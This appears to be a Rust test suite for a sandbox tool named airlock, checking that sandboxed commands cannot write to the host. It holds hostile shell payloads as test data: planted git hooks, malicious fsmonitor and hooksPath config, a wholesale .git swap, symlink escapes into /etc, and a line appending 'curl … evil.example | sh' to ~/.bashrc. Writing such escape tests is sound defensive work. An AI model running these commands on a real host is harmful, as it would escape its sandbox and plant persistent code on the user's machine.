//! Writes on the host: outside the workspace, git hooks and config (also through a linked
//! worktree's common dir), a wholesale `.git` swap, shell start-up files, and symlinks out of the
//! workspace.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::fixture::{git, run_with_timeout, snapshot, unique, Fx};
use crate::{AIRLOCK, RAN, TIMEOUT};

#[test]
fn write_outside_workspace_is_denied() {
    require_sandbox!();
    let fx = Fx::new();
    let tag = unique("airlock-escape-");
    let targets: Vec<PathBuf> = vec![
        fx.outside.join("new.txt"),
        fx.root.join(format!("{tag}-beside-ws")),
        PathBuf::from(format!("/etc/{tag}")),
        PathBuf::from(format!("/usr/local/{tag}")),
        PathBuf::from(format!("/var/tmp/{tag}")),
        fx.home.join(".cargo").join(&tag),
    ];
    let mut script = String::new();
    for t in &targets {
        script.push_str(&format!("echo pwned > '{}'; ", t.display()));
    }
    script.push_str(&format!(
        "echo pwned > '{o}/existing.txt'; echo pwned >> '{o}/existing.txt'; rm -f '{o}/existing.txt'; \
         echo pwned > ../{tag}-relative; touch /etc/passwd; echo inside > '{ws}/inside.txt'; true",
        o = fx.outside.display(),
        ws = fx.ws.display()
    ));
    let out = fx.sh(&[], &script);
    let leaked: Vec<&PathBuf> = targets.iter().filter(|t| t.exists()).collect();
    let relative = fx.root.join(format!("{tag}-relative"));
    for t in leaked.iter().copied().chain([&relative]) {
        let _ = fs::remove_file(t); // never leave files on the host, even when the test fails
    }
    fx.assert_ran_clean(&out);
    assert!(leaked.is_empty(), "written on the host: {leaked:?}\n{out}");
    assert!(!relative.exists(), "written beside the workspace through ..\n{out}");
    assert_eq!(fs::read_to_string(fx.outside.join("existing.txt")).unwrap(), "host data\n", "{out}");
    // The control: the workspace itself is writable.
    assert_eq!(fs::read_to_string(fx.ws.join("inside.txt")).unwrap_or_default(), "inside\n", "{out}");
}

#[test]
fn git_hooks_cannot_be_planted() {
    require_sandbox!();
    let fx = Fx::new();
    let hooks_before = snapshot(&fx.ws.join(".git/hooks"));
    let out = fx.sh(
        &[],
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         cp /bin/true .git/hooks/post-checkout; \
         umount .git/hooks; umount -l .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/pre-commit; \
         mv .git/hooks .git/hooks-moved; rm -rf .git/hooks; mkdir -p .git/hooks; \
         printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-push; true",
    );
    fx.assert_ran_clean(&out);
    for hook in ["pre-commit", "post-checkout", "pre-push"] {
        assert!(!fx.ws.join(".git/hooks").join(hook).exists(), "{hook} planted on the host:\n{out}");
    }
    assert!(!fx.ws.join(".git/hooks-moved").exists(), ".git/hooks moved:\n{out}");
    assert_eq!(snapshot(&fx.ws.join(".git/hooks")), hooks_before, ".git/hooks changed:\n{out}");
}

#[test]
fn git_config_cannot_be_changed() {
    require_sandbox!();
    let fx = Fx::new();
    let before = fs::read(fx.ws.join(".git/config")).unwrap();
    let out = fx.sh(
        &[],
        "git config core.hooksPath /tmp/evil-hooks; git config core.fsmonitor 'touch /tmp/pwned'; \
         echo '[core]' >> .git/config; echo '  pager = sh -c pwned' >> .git/config; \
         cp .git/config /tmp/c && echo '[alias] st = !pwned' >> /tmp/c && cp /tmp/c .git/config; \
         mv /tmp/c .git/config; umount .git/config; umount -l .git/config; \
         printf '[core]\\n\\tfsmonitor = pwned\\n' > .git/config; \
         echo '[include] path = ../evil.cfg' > .git/config.worktree; true",
    );
    fx.assert_ran_clean(&out);
    assert_eq!(fs::read(fx.ws.join(".git/config")).unwrap(), before, ".git/config changed:\n{out}");
    let cfg = git(&fx.ws, &["config", "--list", "--show-origin"]);
    assert!(!cfg.contains("pwned") && !cfg.contains("hookspath") && !cfg.contains("fsmonitor"), "{cfg}\n{out}");
}

#[test]
fn git_dir_cannot_be_replaced_wholesale() {
    // The read-only mounts on .git/hooks and .git/config protect nothing if .git itself can be
    // swapped for a copy whose config points hooks at the workspace: the host's next `git commit`
    // then runs the planted hook outside the sandbox.
    require_sandbox!();
    let fx = Fx::new();
    let before = fs::read(fx.ws.join(".git/config")).unwrap();
    let out = fx.sh(
        &[],
        "mv .git .git-old && mkdir .git && cp -r .git-old/objects .git-old/refs .git-old/HEAD .git/ && \
         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\thooksPath = .evil-hooks\\n' > .git/config && \
         mkdir -p .evil-hooks && printf '#!/bin/sh\\necho pwned\\n' > .evil-hooks/pre-commit && chmod +x .evil-hooks/pre-commit && \
         echo REPLACED; true",
    );
    let hooks_path = Command::new("git").args(["config", "--get", "core.hooksPath"]).current_dir(&fx.ws).output().unwrap();
    let config_now = fs::read(fx.ws.join(".git/config")).unwrap_or_default();
    fx.assert_ran_clean(&out);
    assert!(hooks_path.stdout.is_empty(), "core.hooksPath set on the host repository:\n{out}");
    assert_eq!(config_now, before, ".git/config replaced:\n{out}");
    assert!(!fx.ws.join(".git-old").exists(), ".git was moved aside:\n{out}");
}

#[test]
fn bashrc_append_does_not_reach_host() {
    require_sandbox!();
    let fx = Fx::new();
    let before = snapshot(&fx.home);
    let out = fx.sh(
        &[],
        &format!(
            "echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc; echo pwned >> '{h}/.bashrc'; \
             echo pwned >> ~/.profile; echo pwned >> ~/.bash_profile; mkdir -p ~/.config/autostart; \
             echo pwned > ~/.config/autostart/x.desktop; echo pwned >> ~/.gitconfig; true",
            h = fx.home.display()
        ),
    );
    fx.assert_ran_clean(&out);
    assert_eq!(snapshot(&fx.home), before, "the host HOME changed:\n{out}");
}

#[test]
fn symlink_out_of_workspace_does_not_write_host() {
    // A link planted in the workspace (by an earlier run or by the repository itself) that points
    // outside it must not become a way to write there.
    require_sandbox!();
    let fx = Fx::new();
    std::os::unix::fs::symlink(&fx.outside, fx.ws.join("out-link")).unwrap();
    std::os::unix::fs::symlink(fx.home.join(".bashrc"), fx.ws.join("rc-link")).unwrap();
    let before = snapshot(&fx.outside);
    let rc_before = fs::read(fx.home.join(".bashrc")).unwrap();
    let out = fx.sh(
        &[],
        "echo pwned > out-link/new.txt; echo pwned >> out-link/existing.txt; echo pwned >> rc-link; \
         cat out-link/existing.txt; ln -s / root-link; echo pwned > root-link/etc/airlock-root-link; true",
    );
    let _ = fs::remove_file("/etc/airlock-root-link");
    fx.assert_ran_clean(&out);
    assert_eq!(snapshot(&fx.outside), before, "written outside through a symlink:\n{out}");
    assert_eq!(fs::read(fx.home.join(".bashrc")).unwrap(), rc_before, "~/.bashrc changed through a symlink:\n{out}");
    assert!(!Path::new("/etc/airlock-root-link").exists(), "{out}");
}

#[test]
fn git_worktree_common_dir_is_protected() {
    // The workspace is a linked worktree: its hooks and config live in the main repository's
    // .git (the common dir), outside the workspace; git must work and they must stay read-only.
    require_sandbox!();
    let fx = Fx::new();
    let wt = fx.root.join("wt");
    git(&fx.ws, &["worktree", "add", "-q", "-b", "feature", wt.to_str().unwrap()]);
    let common = fx.ws.join(".git");
    let config_before = fs::read(common.join("config")).unwrap();
    let hooks_before = snapshot(&common.join("hooks"));
    fs::write(wt.join("README.md"), "# fixture\nchanged in the worktree\n").unwrap();
    let mut cmd = Command::new(AIRLOCK);
    cmd.arg("run").arg("--workspace").arg(&wt).arg("--").args([
        "sh",
        "-c",
        &format!(
            "echo {RAN}; git status --porcelain; git -c user.name=In -c user.email=in@example.com commit -q -am wt-commit; \
             C=$(git rev-parse --git-common-dir); echo common=$C; \
             printf '#!/bin/sh\\necho pwned\\n' > \"$C/hooks/pre-commit\"; chmod +x \"$C/hooks/pre-commit\"; \
             git config core.hooksPath /tmp/evil; echo '[core] fsmonitor = pwned' >> \"$C/config\"; \
             mkdir -p \"$C/worktrees/wt\" && echo '[core] hooksPath = /tmp/evil' > \"$C/worktrees/wt/config.worktree\"; true"
        ),
    ]);
    cmd.current_dir(&wt)
        .env("HOME", &fx.home)
        .env("CANARY_SECRET_TOKEN", &fx.env_marker)
        .env("GITHUB_TOKEN", &fx.github_token)
        .env("AIRLOCK_MANAGED_CONFIG", fx.root.join("no-managed.toml"))
        .env("AIRLOCK_USER_CONFIG", fx.root.join("no-user.toml"))
        .stdin(Stdio::null());
    let out = run_with_timeout(cmd, None, TIMEOUT);
    fx.assert_ran_clean(&out);
    assert!(out.stdout.contains(" M README.md"), "git status does not work in the worktree:\n{out}");
    assert_eq!(git(&wt, &["log", "-1", "--format=%s"]).trim(), "wt-commit", "the commit did not land:\n{out}");
    assert_eq!(fs::read(common.join("config")).unwrap(), config_before, "the common config changed:\n{out}");
    assert_eq!(snapshot(&common.join("hooks")), hooks_before, "the common hooks changed:\n{out}");
    let cfg = git(&wt, &["config", "--list"]);
    assert!(!cfg.contains("hookspath") && !cfg.contains("fsmonitor"), "{cfg}\n{out}");
}
